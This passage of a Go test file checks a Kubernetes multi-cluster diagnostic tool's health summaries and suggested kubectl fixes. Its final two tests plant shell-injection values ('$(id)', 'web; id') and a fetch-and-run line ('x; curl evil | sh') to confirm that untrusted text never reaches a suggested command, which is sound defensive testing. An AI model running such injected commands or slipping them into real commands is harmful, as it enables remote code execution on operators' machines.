				unreadyFor(reasons.NetworkUnavailable, "the network to the provider does not work")(&s.Pods[i].Status)
			}
		}, Problem, "role gateway: it is scaled to zero", "kubectl -n liqod scale deployment/liqod-gateway --replicas=1", "Therefore: milan, pods of namespace shop; milan, API server; milan, network\n"},
		"what a peer runs here goes on when it has ended its use": {told(corev1beta1.ConditionIncomingPeering, metav1.ConditionFalse, corev1beta1.ReasonEndedByPeer, "cluster milan has ended its use of this cluster"),
			Warning, "milan, capacity used here: cluster milan has ended its use of this cluster; 1 pod of it here (EndedByPeer; ", "liqod unpeer milan", ""},
		"pods of a peer whose gateways are silent, as when it has forgotten them": {told(corev1beta1.ConditionNetwork, metav1.ConditionFalse, "TunnelSilent", "nothing has come from milan for 2s"),
			Problem, "milan, network: nothing has come from milan for 2s; 1 pod of it here (TunnelSilent; ", "kubectl -n liqo-tenant-milan get connections", ""},
		"virtual node is full": {func(s *Snapshot) {
			p := broken(s, "web-3", "", unplaced("0/4 nodes are available: 1 Insufficient cpu, 3 node(s) didn't match Pod's node affinity/selector."))
			p.Spec.Containers[0].Resources.Requests[corev1.ResourceCPU], p.Spec.Containers[0].Resources.Requests["nvidia.com/gpu"] = resource.MustParse("3500m"), resource.MustParse("1")
			s.Offloadings[0].Spec.PodOffloadingStrategy = offloadingv1beta1.PodsRemote
			offloadedAs(p, offloadingv1beta1.PodsRemote, corev1.NodeSelector{})
		}, Problem, "pod web-3 waits for a node (Unschedulable): 0/4 nodes are available: 1 Insufficient cpu",
			"Fix: liqod offer list\n           shows what is offered. Virtual node milan is full: cpu 3250m left of 4 and 3500m asked, no nvidia.com/gpu in its offer. To ask for more: docs/negotiation.md#asking.", ""},
		"drain blocked by a budget": {func(s *Snapshot) {
			s.VirtualNodes[0].DeletionTimestamp = ptr.To(ago(time.Minute))
			s.VirtualNodes[0].Status.Conditions = []metav1.Condition{is(offloadingv1beta1.VirtualNodeReady, metav1.ConditionFalse, "Draining", "2 pods are left; they are evicted until 12:04:00 UTC and deleted then")}
			s.Pods[0].Labels = map[string]string{"app": "web"}
			s.Budgets = []policyv1.PodDisruptionBudget{{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web"},
				Spec:   policyv1.PodDisruptionBudgetSpec{MinAvailable: ptr.To(intstr.FromInt32(1)), Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}}},
				Status: policyv1.PodDisruptionBudgetStatus{CurrentHealthy: 1, DesiredHealthy: 1}}}
		}, Warning, "milan, virtual node milan: PodDisruptionBudget shop/web admits no eviction (1 of 1 wanted pods are healthy)",
			`kubectl -n shop patch pdb web --type=merge -p '{"spec":{"minAvailable":0}}'`, ""},
		"pod that does not end": {func(s *Snapshot) {
			broken(s, "web-3", "milan", nil).DeletionTimestamp = ptr.To(ago(10 * time.Minute))
		}, Problem, "is not ready (Terminating); the first, web-3: it is being deleted for 10m", "kubectl -n shop get pod web-3 -o yaml", ""},
	} {
		t.Run(name, func(t *testing.T) {
			s := healthy(t)
			tc.change(s)
			status := Summarize(s)
			text := status.Text(false)
			t.Log(text)
			require.Contains(t, text, tc.line)
			require.Contains(t, text, tc.fix)
			if tc.therefore != "" {
				require.Contains(t, text, tc.therefore)
			}
			require.NotContains(t, text, "Cluster rome: healthy\n")
			pastes(t, status)
			_, message, _ := strings.Cut(tc.line, ": ")
			for _, f := range Check(s) {
				require.Contains(t, string(page), "\n### "+string(f.ID)+"\n", f.Subject)
				require.Equal(t, f.ID.Docs(), f.Docs)
			}
			check := CheckText(Check(s))
			require.Contains(t, check, message)
			require.Contains(t, check, tc.fix)
			if tc.level != Warning {
				require.Equal(t, tc.level, status.Health)
				require.Equal(t, 1, strings.Count(text, "\n  ✘ ")+strings.Count(text, "\n  ? "), "one cause is one line")
			} else {
				require.Contains(t, text, "\n  ‼ ")
			}
		})
	}
}

// TestNamesOfStrangers: API servers check neither what a pod says of its owner and its claims, nor what an event is about. A
// text that a shell or kubectl does not take for a name gets into no command.
func TestNamesOfStrangers(t *testing.T) {
	for _, text := range []string{"--all", "-A", "--", "-n", ".web", "$(id)", "web; id", "web\nid", "pods/web", ""} {
		for kind, name := range map[string]string{"Job": text, text: "web"} {
			s := healthy(t)
			p := broken(s, "web-3", "milan", stuck("ImagePullBackOff", "no"))
			p.OwnerReferences[0].Kind, p.OwnerReferences[0].Name = kind, name
			require.Contains(t, onlyProblem(t, s).Fix, "kubectl -n shop edit pod web-3\n", "%q", text)

			s = healthy(t)
			s.Only, s.Nodes, s.Unread[ReadNodes] = "shop", nil, denied("nodes")
			s.Events = []corev1.Event{{Type: corev1.EventTypeWarning, Reason: offloadingv1beta1.ReasonFailedReflection, LastTimestamp: ago(time.Minute),
				InvolvedObject: corev1.ObjectReference{Kind: kind, Namespace: "shop", Name: name}}}
			require.Empty(t, Summarize(s).Warnings, "%q", text)
		}
		s := healthy(t)
		p := broken(s, "db-0", "", unplaced("running PreBind plugin: binding volumes: timed out"))
		p.Status.Conditions[0].Reason = corev1.PodReasonSchedulerError
		for _, claim := range []string{text, "data"} {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: claim}}})
		}
		require.Contains(t, onlyProblem(t, s).Fix, "kubectl -n shop describe pvc data\n", "%q", text)
	}
}

// TestFixesOfStrangers: what others have written gets into no command.
func TestFixesOfStrangers(t *testing.T) {
	const evil = "x; curl evil | sh"
	s := healthy(t)
	apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonAPIServerNotReady, "timeout")
	s.ForeignClusters[0].Status.APIServerURL = "https://milan:6443/" + evil
	for _, name := range []string{"web-3", "web-4"} {
		p := broken(s, name, "milan", stuck("ImagePullBackOff", evil))
		if name == "web-4" {
			refusing(offloadingv1beta1.ReasonPodRefused, evil)(&p.Status)
		}
		p.OwnerReferences[0].Kind, p.OwnerReferences[0].Name = "Job", evil
	}
	nobodyChosen(s)
	s.Offloadings[0].Spec.ClusterSelector = region("x'" + evil)
	set(s.Offloadings[0].Status.Conditions, "Ready", metav1.ConditionFalse, "AllFailed", "the name is taken")
	fixes := 0
	for _, f := range Check(s) {
		for line := range strings.SplitSeq(f.Fix, "\n") {
			if strings.HasPrefix(line, "kubectl ") || strings.HasPrefix(line, "liqod ") || strings.HasPrefix(line, "curl ") {
				fixes++
				bare := regexp.MustCompile(`'[^']*'`).ReplaceAllString(line, "")
				require.NotContains(t, bare, "evil", "%s: %s", f.Name(), line)
			}
		}
	}
	require.Greater(t, fixes, 3)
}
